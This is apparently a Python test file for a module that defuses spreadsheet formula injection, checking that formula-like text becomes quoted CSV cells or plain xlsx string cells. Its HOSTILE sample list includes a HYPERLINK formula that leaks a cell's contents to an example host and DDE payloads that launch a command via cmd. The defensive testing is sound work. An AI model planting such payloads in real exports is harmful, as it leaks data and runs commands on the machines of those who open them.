"""Text a spreadsheet would execute stays text: in CSV with a leading quote (OWASP), in a
workbook as a string cell read back exactly."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from orchestration.spreadsheet_safe import (
    csv_cell,
    csv_row,
    looks_like_formula,
    set_text_cell,
    xlsx_text,
)

HOSTILE = [
    '=HYPERLINK("http://example.com/?"&A1, "Натисніть")',
    "=cmd|' /C calc'!A0",
    "+380 412 48 12 00",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "#N/A",
    "=",
]
HARMLESS = ["Житомирська міська рада", "1 = 1", "a-b", "email@example.com", "", "'quoted"]


@pytest.mark.parametrize("text", HOSTILE[:7])
def test_text_starting_like_a_formula_is_recognised(text: str) -> None:
    assert looks_like_formula(text)


@pytest.mark.parametrize("text", HARMLESS)
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert not looks_like_formula(text)
    assert csv_cell(text) == text


def test_a_csv_cell_that_would_run_gets_a_leading_quote_and_numbers_stay_numbers() -> None:
    assert csv_cell("=1+1") == "'=1+1"
    assert csv_cell("-5") == "'-5"  # text that looks negative: a spreadsheet may evaluate it
    assert csv_row([-5, 2.5, None, "@x", "Житомир"]) == [-5, 2.5, None, "'@x", "Житомир"]


def test_a_csv_written_with_csv_row_reads_back_with_the_quote_and_nothing_else_changed() -> None:
    buffer = io.StringIO()
    csv.writer(buffer).writerow(csv_row(HOSTILE + HARMLESS))
    (row,) = csv.reader(io.StringIO(buffer.getvalue()))
    assert row[: len(HOSTILE)] == [("'" if looks_like_formula(t) else "") + t for t in HOSTILE]
    assert row[len(HOSTILE) :] == HARMLESS


def test_workbook_text_keeps_every_character_a_workbook_can_hold() -> None:
    assert xlsx_text("рядок\tз\nтабуляцією\r") == "рядок\tз\nтабуляцією\r"
    assert xlsx_text("a\x00b\x0bc\x1f") == "a\ufffdb\ufffdc\ufffd"
    assert len(xlsx_text("я" * 40_000)) == 32_767


def test_hostile_text_round_trips_through_a_workbook_as_text_never_as_a_formula(
    tmp_path: Path,
) -> None:
    book = Workbook()
    sheet = book.active
    for row, text in enumerate(HOSTILE + HARMLESS, start=1):
        set_text_cell(sheet.cell(row=row, column=1), text)
    book.save(tmp_path / "t.xlsx")
    cells = [r[0] for r in load_workbook(tmp_path / "t.xlsx").active.iter_rows()]
    assert [c.value or "" for c in cells] == HOSTILE + HARMLESS
    assert {c.data_type for c in cells if c.value} == {"s"}
